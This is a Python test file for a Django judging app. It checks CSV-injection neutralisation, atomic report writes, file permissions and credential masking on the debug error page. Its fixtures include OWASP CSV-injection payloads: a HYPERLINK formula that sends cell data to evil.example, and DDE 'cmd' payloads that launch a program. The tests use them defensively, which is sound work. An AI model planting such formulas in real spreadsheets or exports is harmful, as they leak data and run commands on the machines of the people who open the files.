"""What the app writes out and shows: CSV exports safe in a spreadsheet, report files with the user's umask,
the development error page without the credentials inside URLs."""

import csv
import io
import json
import os
import sys

import pytest
from django.test import RequestFactory, override_settings
from django.urls import reverse
from django.views.debug import ExceptionReporter

from judgeapp.judging import runs
from judgeapp.judging.atomic import write_text_atomic
from judgeapp.judging.csvsafe import csv_chunks
from tests.factories import RUBRIC_ONE

pytestmark = pytest.mark.django_db

# OWASP's "CSV injection" starters, each as a case's input and output.
FORMULAS = {
    "c1": ("=HYPERLINK(\"http://evil.example/?\"&A1,\"help\")", "=1+1"),
    "c2": ("+cmd|' /C calc'!A0", "+SUM(A1:A9)"),
    "c3": ("-2+3+cmd|' /C calc'!A0", "-1-1"),
    "c4": ("@SUM(1,1)*cmd|' /C calc'!A0", "@A1"),
    "c5": ("\t=1+1 after a tab", "\r=1+1 after a carriage return"),
}
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def csv_joined(columns, rows) -> str:
    """The whole export as one text, as a download gets it chunk after chunk."""
    return "".join(csv_chunks(columns, rows))


def formula_testset() -> bytes:
    return "\n".join(json.dumps({"id": case, "input": i, "output": o}) for case, (i, o) in FORMULAS.items()).encode() + b"\n"


def assert_neutralised(text: str) -> list[list[str]]:
    rows = list(csv.reader(io.StringIO(text)))
    header, body = rows[0], rows[1:]
    assert body
    for row in body:
        for column, cell in zip(header, row):
            if column in ("score", "attempts", "parse_attempts", "latency_ms"):
                continue  # numbers stay numbers
            assert not cell.startswith(DANGEROUS), f"{column}: {cell!r} is exported raw"
    inputs = {row[header.index("case_id")]: row[header.index("input")] for row in body}
    assert inputs["c1"] == "'" + FORMULAS["c1"][0] and inputs["c5"] == "'" + FORMULAS["c5"][0]
    return rows


def test_csv_cells_that_start_a_formula_are_neutralised_and_numbers_are_not():
    text = csv_joined(["a", "b", "c"], [["=1+1", -3, "-3"], ["\tx", "\ry", "plain"], ["@x", "+x", None]])
    assert list(csv.reader(io.StringIO(text))) == [
        ["a", "b", "c"], ["'=1+1", "-3", "-3"], ["'\tx", "'\ry", "plain"], ["'@x", "'+x", ""],
    ]


def run_with_formulas(judge, tmp_path):
    path = tmp_path / "formulas.jsonl"
    path.write_bytes(formula_testset())
    rubric = tmp_path / "rubric.toml"
    rubric.write_bytes(RUBRIC_ONE)
    return path, rubric


def test_a_csv_comes_a_piece_at_a_time_and_its_pieces_are_the_whole_csv():
    rows = [[f"=cmd{i}", i] for i in range(1201)]
    pieces = list(csv_chunks(["a", "b"], iter(rows), rows_per_chunk=500))
    assert len(pieces) == 3 and pieces[0].startswith("a,b\r\n")  # the header with the first 500 rows
    assert "".join(pieces) == csv_joined(["a", "b"], rows)
    assert list(csv.reader(io.StringIO("".join(pieces))))[-1] == ["'=cmd1200", "1200"]
    assert list(csv_chunks(["a"], iter([]))) == ["a\r\n"]


def test_an_export_written_in_pieces_is_whole_or_not_there(tmp_path):
    def pieces():
        yield "first,row\r\n"
        raise RuntimeError("the database went away mid-export")

    target = tmp_path / "judgments.csv"
    target.write_text("the previous export\n")
    with pytest.raises(RuntimeError):
        write_text_atomic(target, pieces())
    assert target.read_text() == "the previous export\n" and [p.name for p in tmp_path.iterdir()] == ["judgments.csv"]
    write_text_atomic(target, iter(["a,b\r\n", "1,2\r\n"]))
    assert target.read_bytes() == b"a,b\r\n1,2\r\n"


def test_the_csv_export_of_the_command_neutralises_every_cell(judge, tmp_path):
    from django.core.management import call_command

    testset, rubric = run_with_formulas(judge, tmp_path)
    out = tmp_path / "judgments.csv"
    call_command("evaluate", "pointwise", "--testset", str(testset), "--rubric", str(rubric), "--judge", judge.name,
                 "--concurrency", "1", "--threshold", "1", "--csv", str(out), stdout=io.StringIO(), stderr=io.StringIO())
    assert_neutralised(out.read_bytes().decode())


def test_report_csv_from_the_browser_neutralises_every_cell(client, reviewer, judge, tmp_path):
    from judgeapp.judging.content import prompt_register, rubric_store, testset_store
    from judgeapp.models import Executor, RunKind

    run = runs.run_create(
        kind=RunKind.POINTWISE, run_id="formulas", executor=Executor.INLINE, judge=judge,
        testset=testset_store(data=formula_testset(), name="formulas.jsonl"), rubric=rubric_store(data=RUBRIC_ONE, name="r.toml"),
        prompt=prompt_register(prompt="pointwise"), options={"threshold": 1.0},
    )
    runs.run_execute_inline(run=run)
    client.force_login(reviewer)
    response = client.get(reverse("pointwise:export", args=["formulas", "csv"]))
    assert response.status_code == 200 and response["Content-Disposition"] == 'attachment; filename="formulas.csv"'
    body = b"".join(response.streaming_content)
    assert_neutralised(body.decode())
    assert body.count(b"\r\n") >= 6  # a row per judgment, Excel's line ends


@pytest.mark.parametrize("umask, mode", [(0o022, 0o644), (0o077, 0o600), (0o002, 0o664)])
def test_report_files_honour_the_umask(tmp_path, umask, mode):
    previous = os.umask(umask)
    try:
        path = write_text_atomic(tmp_path / "report.json", "{}\n")
        rewritten = write_text_atomic(tmp_path / "report.json", "{\"again\": 1}\n")
    finally:
        os.umask(previous)
    assert path.stat().st_mode & 0o777 == mode and rewritten.read_text() == "{\"again\": 1}\n"
    assert [p.name for p in tmp_path.iterdir()] == ["report.json"]  # no temp file left behind


# Built at run time: the error page shows this file's source lines, which must not hold the joined secrets.
PASSWORDS = ["-".join(("db", "pass", "7781")), "-".join(("broker", "pass", "3390")), "-".join(("limiter", "pass", "1207"))]
SECRETS = {
    "DATABASE_URL": f"postgres://judgeapp:{PASSWORDS[0]}@db.internal:5432/judgeapp",
    "CELERY_BROKER_URL": f"redis://:{PASSWORDS[1]}@cache.internal:6379/0",
    "JUDGE_LIMITER_REDIS_URL": f"rediss://limiter:{PASSWORDS[2]}@cache.internal:6380/1",
}


def test_the_development_error_page_masks_credentials_in_urls():
    request = RequestFactory().get("/boom", **{"DATABASE_URL": SECRETS["DATABASE_URL"]})
    broker_url = SECRETS["CELERY_BROKER_URL"]  # a local variable of the failing frame  # noqa: F841
    with override_settings(DEBUG=True, CELERY_BROKER_URL=SECRETS["CELERY_BROKER_URL"],
                           JUDGE_LIMITER_REDIS_URL=SECRETS["JUDGE_LIMITER_REDIS_URL"],
                           EXTRA_URLS=[SECRETS["DATABASE_URL"]]):
        try:
            raise RuntimeError("boom")
        except RuntimeError:
            html = ExceptionReporter(request, *sys.exc_info()).get_traceback_html()
            text = ExceptionReporter(request, *sys.exc_info()).get_traceback_text()
    for page in (html, text):
        for secret in PASSWORDS:
            assert secret not in page
        assert "cache.internal:6379" in page and "********************@" in page  # the rest of the URL stays readable
